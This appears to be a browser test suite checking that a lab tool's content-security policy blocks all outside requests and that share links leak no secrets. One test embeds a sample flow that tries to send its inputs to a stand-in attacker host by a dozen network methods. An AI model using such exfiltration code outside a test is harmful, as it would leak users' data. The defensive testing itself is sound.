// Nothing leaves the browser: not by a request, also where a flow's own code tries, and not by a link.
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { code, flowOf, http, UNGUARDED } from '../lab/flows.mjs';
import { drop, fixedTested, noBrowser, openRig, sentence, tested } from './rig.mjs';

// Put together here, so that no scanner takes this file for a leak.
const joined = (...parts) => parts.join('_');
const RAW = joined('sk', 'live', '51HsecretRAW');
const VAULT = joined('vault', 'key', 'secret4f9a');

const shared = (page) => page.locator('.link-text').inputValue();

async function openShare(page) {
  await page.getByRole('button', { name: 'Share' }).click();
  await page.waitForFunction(() => document.querySelector('.link-text')?.value.includes('seed='));
}

describe.skipIf(noBrowser)('nothing leaves the browser', () => {
  let rig;
  beforeAll(async () => {
    rig = await openRig();
  });
  afterAll(() => rig?.close());

  const foreign = (requests) =>
    requests.filter((url) => !url.startsWith(rig.url) && !url.startsWith('blob:'));

  test('a whole session asks for the page’s own files alone', async () => {
    const { page, requests, close } = await rig.visit();
    await drop(page, UNGUARDED);
    await tested(page);
    await page.getByRole('button', { name: 'Fix it and test again' }).click();
    await fixedTested(page);
    expect(foreign(requests)).toEqual([]);
    const names = new Set(
      requests.filter((url) => url.startsWith('http')).map((url) => new URL(url).pathname),
    );
    expect([...names].sort()).toEqual([
      '/',
      '/inter.woff2',
      '/lab-worker.js',
      '/page.css',
      '/page.js',
      '/worker.js',
    ]);
    await close();
  });

  test('the policy stands in the page, and holds in it and in its worker', async () => {
    const { page, requests, close } = await rig.visit();
    const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    for (const part of ["default-src 'none'", "connect-src 'none'", "base-uri 'none'", "form-action 'none'"])
      expect(policy).toContain(part);
    const tried = await page.evaluate(async () => {
      const refused = (promise) =>
        promise.then(
          () => 'went out',
          () => 'refused',
        );
      const here = await refused(fetch('/page.js'));
      const blob = new Blob([
        `fetch(${JSON.stringify(location.href)}).then(() => postMessage('went out'), () => postMessage('refused'))`,
      ]);
      const worker = new Worker(URL.createObjectURL(blob));
      const there = await new Promise((resolve) => {
        worker.onmessage = ({ data }) => resolve(data);
      });
      return [here, there];
    });
    expect(tried).toEqual(['refused', 'refused']);
    expect(foreign(requests)).toEqual([]);
    await close();
  });

  test('the threads that read and run flows have the policy too', async () => {
    const { page, close } = await rig.visit();
    await drop(page, UNGUARDED);
    await tested(page);
    const [reader] = page.workers();
    // Without a policy this would be allowed. It is a text, since vitest rewrites `import`.
    const tried = "import('data:text/javascript,1').then(() => 'went out', () => 'refused')";
    expect(await reader.evaluate(tried)).toBe('refused');
    await page.getByRole('tab', { name: 'Search' }).click();
    await page.getByLabel('Combinations').selectOption('100000');
    await page.getByRole('button', { name: 'Search', exact: true }).click();
    await page.waitForFunction(() => /\d/.test(document.querySelector('.running-count')?.textContent ?? ''));
    // A worker of a blob has its creator's policy, one of a URL has none. The tests' own thread may still be on its way out.
    await expect
      .poll(() => page.workers().map((thread) => thread.url().split(':')[0]))
      .toEqual(['blob', 'blob']);
    await close();
  });

  test('a flow’s code reaches nothing', async () => {
    const { page, requests, close } = await rig.visit();
    const hostile = `export const code = async (inputs) => {
      const out = 'https://evil.example/?' + JSON.stringify(inputs);
      const tries = [
        () => fetch(out),
        () => new XMLHttpRequest().open('GET', out),
        () => new WebSocket(out.replace('https', 'wss')),
        () => new EventSource(out),
        () => navigator.sendBeacon(out),
        () => importScripts(out),
        () => new Worker(out),
        () => (async () => {}).constructor('u', 'return import(u)')(out),
        () => Function('u', 'return import(u)')(out),
        () => eval('import(' + JSON.stringify(out) + ')'),
        () => indexedDB.open('x'),
        () => postMessage(out),
      ];
      for (const one of tries) { try { await one(); } catch {} }
      return { customer_id: 'cus_A100' };
    };`;
    await drop(page, JSON.stringify(flowOf(code(hostile, { token: '{{connections.x}}' }), http())));
    await page.waitForSelector(
      '.verdict.tone-bad, .verdict.tone-warn, .verdict.tone-good, .verdict .problem',
    );
    expect(foreign(requests)).toEqual([]);
    await close();
  });

  test('it works from any folder of any host', async () => {
    const { serveFolder } = await import('../../scripts/lab/serve.mjs');
    expect(
      (
        await serveFolder(rig.folder).then(async (server) => {
          const text = await (await fetch(server.url)).text();
          server.stop();
          return text;
        })
      )
        .match(/(?:src|href)="(?!#)[^"]*"/g)
        .every((it) => !/"(\/|https?:)/.test(it)),
    ).toBe(true);
  });

  describe('the share link', () => {
    const secretFlow = JSON.stringify(
      flowOf(
        code(`const key = '${RAW}'; export const code = (inputs) => ({ customer_id: inputs.c });`, {
          c: "{{trigger['output']['body']['customer']}}",
          vault: VAULT,
        }),
        http({
          authFields: { token: VAULT },
          headers: { Authorization: `Bearer ${RAW}`, 'Idempotency-Key': 'x' },
        }),
      ),
    );

    test('carries the scenario, and opens it', async () => {
      const { page, close } = await rig.visit();
      await page.getByRole('button', { name: 'Start from the published flow' }).click();
      await tested(page);
      await page.getByRole('checkbox', { name: /delivered twice at once/i }).check();
      await openShare(page);
      const link = await shared(page);
      expect(link).toBe(`${rig.url}/#faults=duplicate_delivery&seed=1&flow=example`);
      await close();
      const other = await rig.visit({ hash: new URL(link).hash, wait: '.story' });
      expect(await other.page.locator('#story-title').innerText()).toMatch(/delivered twice at once/i);
      await other.close();
    });

    test('has of the user’s flow nothing unless asked, and then no secret', async () => {
      const { page, close } = await rig.visit();
      await drop(page, secretFlow, 'mine.json');
      // What is below the verdict moves when it comes.
      await page.waitForSelector('table.faults, .undisturbed');
      await page.getByText('The event, the proxy and the seed number').click();
      await page
        .getByLabel('The trigger’s payload, as JSON')
        .fill(JSON.stringify({ customer: 'cus_private' }));
      await page.getByRole('button', { name: 'Test with these' }).click();
      await openShare(page);
      expect(await shared(page)).toBe(`${rig.url}/#seed=1`);
      await page.getByRole('checkbox', { name: /Put the flow into the link/ }).check();
      await page.waitForFunction(() => document.querySelector('.link-text').value.includes('flow=z.'));
      const link = await shared(page);
      await close();
      const other = await rig.visit({ hash: new URL(link).hash, wait: '#verdict' });
      const { inflateRawSync } = await import('node:zlib');
      const text = inflateRawSync(Buffer.from(link.split('flow=z.')[1], 'base64url')).toString();
      expect(JSON.parse(text).flows[0].trigger.nextAction.name).toBe('step_1');
      expect(text).not.toMatch(/secret|cus_private/);
      await other.page.getByText('the link’s flow').waitFor();
      await other.close();
    });

    test('a damaged one is refused in words', async () => {
      const { page, close } = await rig.visit({ hash: '#seed=1&flow=z.abcd', wait: '.problem' });
      expect(await page.locator('.problem p').first().innerText()).toBe(
        'The link’s flow breaks off or is damaged: ask for it again.',
      );
      await page.getByRole('button', { name: 'Start from the published flow' }).click();
      await tested(page);
      expect(await sentence(page)).toMatch(/twice/);
      await close();
    });
  });
});
